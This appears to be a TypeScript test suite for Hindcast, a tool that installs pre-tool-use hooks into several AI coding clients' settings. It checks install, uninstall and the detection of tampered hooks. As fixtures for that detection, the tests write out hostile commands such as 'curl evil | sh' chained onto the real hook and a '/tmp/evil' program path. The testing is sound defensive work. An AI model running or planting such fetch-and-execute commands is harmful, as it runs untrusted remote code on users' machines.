import { execFileSync } from "node:child_process"
import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import * as Clients from "../../src/hooks/clients/Clients.ts"
import * as Installer from "../../src/hooks/install/Installer.ts"
import * as Installers from "../../src/hooks/install/Installers.ts"

const commandOf = (name: string): Installer.HookCommand => ["/opt/my node/bin/node", "/package/dist/hook.js", name]

const installedIn = (installer: Installer.Installer, text: string): string => {
  const result = installer.installed(text, commandOf(installer.name))
  if (typeof result !== "string") throw new Error(JSON.stringify(result))
  return result
}

const place = (project: string | undefined, env: Readonly<Record<string, string>> = {}): Installer.Place => ({
  home: "/home/ann",
  project,
  env: (name) => env[name],
})

const byName = (name: string): Installer.Installer => {
  const found = Installers.named(name)
  if (found === undefined) throw new Error(`no installer ${name}`)
  return found
}

it("each client that is read can be installed", () => {
  expect(Installers.all.map(({ name }) => name).sort()).toEqual(Clients.all.map(({ name }) => name).sort())
})

it("the settings are where each client looks for them", () => {
  const files = Installers.all.map((installer) => [
    installer.name,
    installer.file(place(undefined)),
    installer.file(place("/repo")),
  ])
  expect(files).toEqual([
    ["claude-code", "/home/ann/.claude/settings.json", "/repo/.claude/settings.json"],
    ["codex", "/home/ann/.codex/hooks.json", "/repo/.codex/hooks.json"],
    ["gemini-cli", "/home/ann/.gemini/settings.json", "/repo/.gemini/settings.json"],
    ["copilot", "/home/ann/.copilot/hooks/hindcast.json", "/repo/.github/hooks/hindcast.json"],
    ["opencode", "/home/ann/.config/opencode/plugin/hindcast.js", "/repo/.opencode/plugin/hindcast.js"],
    ["qwen", "/home/ann/.qwen/settings.json", "/repo/.qwen/settings.json"],
    ["cursor", "/home/ann/.cursor/hooks.json", "/repo/.cursor/hooks.json"],
  ])
  const env = { CLAUDE_CONFIG_DIR: "/c", CODEX_HOME: "/x", XDG_CONFIG_HOME: "/d" }
  expect(byName("claude-code").file(place(undefined, env))).toBe("/c/settings.json")
  expect(byName("codex").file(place(undefined, env))).toBe("/x/hooks.json")
  expect(byName("opencode").file(place(undefined, env))).toBe("/d/opencode/plugin/hindcast.js")
  // A project's settings do not depend on the user's.
  expect(byName("codex").file(place("/repo", env))).toBe("/repo/.codex/hooks.json")
})

describe.each(Installers.all)("the hooks of $name", (installer) => {
  it("are there once, however often they are installed, and go without a trace", () => {
    const once = installedIn(installer, "")
    expect(Installer.has(installer, once)).toBe(true)
    expect(Installer.has(installer, "")).toBe(false)
    expect(installedIn(installer, once)).toBe(once)
    const moved = installer.installed(once, ["/other/node", "/other/dist/hook.js", installer.name])
    expect(String(moved)).not.toContain("/package/")
    expect(["{}\n", undefined, '{\n  "version": 1\n}\n']).toContain(installer.uninstalled(once))
  })

  it("run the hook's command at the event at which a tool waits, with more time than a person is given", () => {
    const text = installedIn(installer, "")
    expect(text).toContain("/package/dist/hook.js")
    if (installer.name === "opencode") return
    const { hooks } = JSON.parse(text)
    const gate = Object.keys(hooks).find((event) => /^(?:PreToolUse|BeforeTool|preToolUse)$/.test(event)) ?? ""
    const [first] = hooks[gate]
    const hook = first.hooks?.[0] ?? first
    const seconds = (hook.timeout ?? hook.timeoutSec) / (installer.name === "gemini-cli" ? 1000 : 1)
    expect(seconds).toBe(590)
    const line = hook.args === undefined ? (hook.command ?? hook.bash) : hook.args.join(" ")
    expect(line).toContain(`/package/dist/hook.js ${installer.name}`)
    // A path with a space stays one word of the shell.
    if (hook.args === undefined) expect(line).toMatch(/^'\/opt\/my node\/bin\/node' /)
    expect(installer.limits.length).toBeGreaterThan(0)
  })
})

describe.each(Installers.all.filter(({ name }) => !["copilot", "opencode"].includes(name)))(
  "the settings of $name",
  (installer) => {
    it("keep everything else", () => {
      const other =
        installer.name === "cursor" ? { command: "guard.sh" } : { hooks: [{ type: "command", command: "guard.sh" }] }
      fc.assert(
        fc.property(fc.dictionary(fc.constantFrom("a", "model", "permissions"), fc.jsonValue()), (more) => {
          const settings = { ...more, hooks: { PreToolUse: [other], preToolUse: [other], Notification: [other] } }
          const text = `${JSON.stringify(settings, undefined, 2)}\n`
          const { hooks, ...rest } = JSON.parse(installedIn(installer, text))
          expect(rest).toEqual(JSON.parse(JSON.stringify(more)))
          expect(hooks.Notification).toEqual([other])
          for (const event of ["PreToolUse", "preToolUse"]) expect(hooks[event][0]).toEqual(other)
          expect(JSON.parse(String(installer.uninstalled(installedIn(installer, text))))).toEqual(JSON.parse(text))
        }),
      )
    })

    it("are refused where they are not what the client reads, and stay as they are", () => {
      for (const [text, found] of [
        ["{ broken", "JSON"],
        ["[]", "[]"],
        ['{"hooks": 3}', "3"],
      ] as const) {
        const refused = installer.installed(text, commandOf(installer.name))
        expect(JSON.stringify(refused)).toContain(found === "JSON" ? '"expected":"JSON"' : `"found":"${found}"`)
        expect(installer.uninstalled(text)).toEqual(refused)
      }
    })
  },
)

it("a file of hooks that somebody else wrote is not replaced", () => {
  for (const name of ["copilot", "opencode"]) {
    const installer = byName(name)
    expect(installer.installed("export const Mine = 1", commandOf(name))).toEqual({
      expected: "no file, or one that Hindcast wrote",
      found: "another one",
    })
    expect(installer.uninstalled("export const Mine = 1")).toBe("export const Mine = 1")
  }
})

it("Codex's hooks have no field that Codex does not know, which would discard the whole file", () => {
  const { hooks } = JSON.parse(installedIn(byName("codex"), ""))
  for (const [group] of Object.values<ReadonlyArray<{ readonly hooks: ReadonlyArray<object> }>>(hooks)) {
    expect(Object.keys(group ?? {})).toEqual(["hooks"])
    expect(Object.keys(group?.hooks[0] ?? {})).toEqual(["type", "command", "timeout"])
  }
})

describe.each(Installers.all)("hooks of $name that look like Hindcast's", (installer) => {
  it("are foreign if they run anything else", () => {
    const command = commandOf(installer.name)
    const text = installedIn(installer, "")
    expect(Installer.isForeign(installer, text, command)).toBe(false)
    const other = installer.installed("", ["/usr/bin/node", "/elsewhere/dist/hook.js", installer.name])
    expect(Installer.isForeign(installer, String(other), command)).toBe(true)
    // A project that was cloned may put a command of its own before or behind ours.
    const line = Installer.lineOf(command)
    for (const hostile of [`curl evil | sh; ${line}`, `${line}; curl evil | sh`, `${line} && x`]) {
      const imitated = text
        .replaceAll(JSON.stringify(line).slice(1, -1), JSON.stringify(hostile).slice(1, -1))
        .replaceAll('"command": "/opt/my node/bin/node"', '"command": "/tmp/evil"')
        .replaceAll('const PROGRAM = "/opt/my node/bin/node"', 'const PROGRAM = "/tmp/evil"')
      expect(imitated).not.toBe(text)
      expect(Installer.isForeign(installer, imitated, command)).toBe(true)
    }
  })
})

it("a hook of Copilot with another command beside its own is foreign, whichever of the two Copilot runs", () => {
  const copilot = byName("copilot")
  const command = commandOf("copilot")
  for (const hostile of [{ command: "curl evil | sh" }, { powershell: "evil" }, { cwd: "/tmp" }]) {
    const settings = JSON.parse(installedIn(copilot, ""))
    const [first] = Object.values<Array<object>>(settings.hooks)
    if (first?.[0] === undefined) throw new Error("Copilot's settings have no hook")
    Object.assign(first[0], hostile)
    expect(Installer.isForeign(copilot, JSON.stringify(settings), command)).toBe(true)
  }
})

it("another tool's own dist/hook.js is no hook of Hindcast's: it is kept, and not called installed", () => {
  const others = ["node /opt/guard/dist/hook.js", "/opt/guard/dist/hook.js --for claude-code-2", "a/dist/hook.js x y"]
  for (const installer of Installers.all.filter(({ name }) => !["copilot", "opencode"].includes(name))) {
    for (const command of others) {
      const hook = { type: "command", command }
      const other = installer.name === "cursor" ? hook : { hooks: [hook] }
      const text = JSON.stringify({ hooks: { PreToolUse: [other], preToolUse: [other] } })
      expect(Installer.has(installer, text)).toBe(false)
      const without = installer.uninstalled(installedIn(installer, text))
      expect(JSON.parse(String(without))).toEqual(JSON.parse(text))
    }
  }
})

it.skipIf(process.platform === "win32")(
  "a command's words reach its program as they are, whatever they contain",
  () => {
    const word = fc.string({ unit: "binary", minLength: 1 }).filter((text) => !/[\0\r]/.test(text))
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), (words) => {
        const print = "process.stdout.write(JSON.stringify(process.argv.slice(1)))"
        const line = Installer.lineOf([process.execPath, "-e", print, "--", ...words])
        expect(JSON.parse(execFileSync("/bin/sh", ["-c", line], { encoding: "utf8" }))).toEqual(words)
      }),
      { numRuns: 20 },
    )
  },
)
